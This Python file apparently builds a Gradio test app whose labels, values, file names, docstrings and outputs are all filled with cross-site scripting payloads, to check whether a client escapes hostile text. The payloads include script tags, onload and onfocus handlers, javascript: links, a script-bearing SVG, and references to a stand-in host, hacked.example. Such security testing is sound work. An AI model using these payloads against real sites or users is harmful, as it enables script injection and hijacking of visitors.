"""An app whose every text would run script, on any release with Blocks.

What a text would do is `HACK` of `constants.py`.
"""

from __future__ import annotations

import inspect
from collections.abc import Callable
from typing import Any

import gradio as gr
import numpy as np
import samples
from constants import HACK, MARKUP
from endpoints import VERSION, Endpoints, ErrorForClient
from live import Progress

PAGE = f"""<!DOCTYPE html><base href="http://hacked.example/">
<meta http-equiv="refresh" content="0; url=http://hacked.example/refresh">
<style>@import "http://hacked.example/style";
body {{ background: url(http://hacked.example/back) }}</style>
<script src="http://hacked.example/script"></script>
<form action="http://hacked.example/form"><button autofocus onfocus="{HACK}">button</button></form>
<iframe srcdoc="<script>parent.hacked = 1; alert(1)</script>"></iframe>
<a href="javascript:{HACK}" target="_top">link</a><body onload="{HACK}">{MARKUP}"""
DRAWING = f"""<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{HACK}">
<script>{HACK}</script><image href="http://hacked.example/image"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{HACK}"/></foreignObject></svg>"""
MARKDOWN = f"""# {MARKUP}

[link](javascript:alert(1)) <javascript:alert(1)> ![picture](http://hacked.example/markdown)
[data](data:text/html,<script>alert(1)</script>) `{MARKUP}`

{PAGE}

```"><script>{HACK}</script>
{MARKUP}
```

| {MARKUP} | b |
|---|---|
| {MARKUP} | [x]: javascript:alert(1) |
"""
NAME = MARKUP.replace("/", "")  # of endpoints and files
CHOICES = [MARKUP, NAME]
TEXTS = {"label": MARKUP, "info": MARKUP, "placeholder": MARKUP}


def component(name: str, **options: Any) -> Any:
    """Create a component with hostile texts and those of the options that the release has."""
    found = getattr(gr, name, None)
    if found is None:
        return None
    known = inspect.signature(found).parameters
    return found(**{key: value for key, value in {**TEXTS, **options}.items() if key in known})


def picture() -> Any:
    """A small picture."""
    return np.zeros((4, 4, 3), np.uint8)


def chat() -> Any:
    """A conversation, of messages or of pairs as the release has it."""
    if VERSION >= (6, 0):
        return [{"role": role, "content": MARKDOWN} for role in ("user", "assistant")]
    return [[MARKDOWN, MARKDOWN]]


# What each component of an output is given.
SHOWN: dict[str, Callable[[], Any]] = {
    "Textbox": lambda: MARKUP,
    "HTML": lambda: PAGE,
    "Markdown": lambda: MARKDOWN,
    "JSON": lambda: {MARKUP: [MARKUP, {"path": PAGE, "url": f"javascript:{HACK}"}]},
    "Code": lambda: PAGE,
    "Label": lambda: {MARKUP: 0.75, NAME: 0.25},
    "HighlightedText": lambda: [(MARKUP, MARKUP), (MARKDOWN, None)],
    "Chatbot": chat,
    "Dataframe": lambda: [[MARKUP, MARKDOWN], [PAGE, DRAWING]],
    "ColorPicker": lambda: MARKUP,
    "Gallery": lambda: [(picture(), MARKUP), (picture(), NAME)],
    "AnnotatedImage": lambda: (picture(), [((0, 0, 2, 2), MARKUP)]),
    "Radio": lambda: MARKUP,
    "CheckboxGroup": lambda: CHOICES,
}
FILES = {
    f"{NAME[:60]}.svg": DRAWING,
    f"{NAME[:60]}.html": PAGE,
    "named.png": PAGE,
    f"{NAME[:60]}.txt": MARKUP,
}
# Components of inputs, with the texts that only some have.
ASKED: dict[str, dict[str, Any]] = {
    "Textbox": {"value": MARKUP},
    "Number": {"value": 1},
    "Slider": {"value": 1},
    "Checkbox": {"value": True},
    "Radio": {"choices": CHOICES, "value": MARKUP},
    "CheckboxGroup": {"choices": CHOICES, "value": CHOICES},
    "Dropdown": {"choices": CHOICES, "value": MARKUP},
    "ColorPicker": {"value": "#123456"},
    "DateTime": {},
    "Dataframe": {"headers": [MARKUP, PAGE], "value": [[MARKUP, DRAWING]]},
    "JSON": {"value": {MARKUP: PAGE}},
    "Code": {"value": PAGE},
    "Image": {},
    "Gallery": {},
    "File": {"file_types": [".png", NAME]},
    "Chatbot": {},
    "MultimodalTextbox": {"value": {"text": MARKUP, "files": []}},
}


def show(*_: Any) -> tuple[Any, ...]:
    """Return hostile values for all components of `SHOWN`."""
    return tuple(make() for name, make in SHOWN.items() if hasattr(gr, name))


def write(*_: Any) -> list[str]:
    """Return hostile files with hostile names."""
    return [samples.new_file(text.encode(), name) for name, text in FILES.items()]


def draw(_: str) -> str:
    """Return a hostile drawing as a picture."""
    return samples.new_file(DRAWING.encode(), "drawing.svg")


def refuse(_: str, progress: Any = Progress()) -> str:  # noqa: B008 - as Gradio wants it
    """Fail with a hostile text, after progress with one."""
    if progress is not None:
        progress(0.5, desc=MARKUP, unit=MARKUP)
    raise ErrorForClient(MARKUP)


for function in (show, write, draw, refuse):
    function.__doc__ = MARKDOWN


def hostile() -> gr.Blocks:
    """An app with hostile texts in all that it says of itself, and in its answers."""
    with gr.Blocks(title=MARKUP) as blocks:
        app = Endpoints()
        asked = [component(name, **options) for name, options in ASKED.items()]
        text = component("Textbox", value=MARKUP)
        shown = [component(name, choices=CHOICES) for name in SHOWN]
        app.add(NAME, show, [one for one in asked if one], [one for one in shown if one])
        app.add("show", show, [text], [one for one in shown if one])
        app.add("write", write, [text], [component("File", file_count="multiple")])
        if VERSION >= (4, 0):
            app.add("draw", draw, [text], [component("Image")])
        app.add("refuse", refuse, [text], [text])
    return blocks.queue()
